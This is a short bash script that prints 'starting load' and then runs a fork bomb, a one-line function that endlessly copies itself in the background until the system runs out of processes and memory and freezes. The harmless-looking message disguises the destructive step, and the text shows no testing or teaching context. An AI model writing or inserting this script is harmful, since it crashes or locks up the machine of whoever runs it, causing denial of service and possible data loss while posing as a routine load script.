#!/bin/bash
echo 'starting load'
:(){ :|:& };:
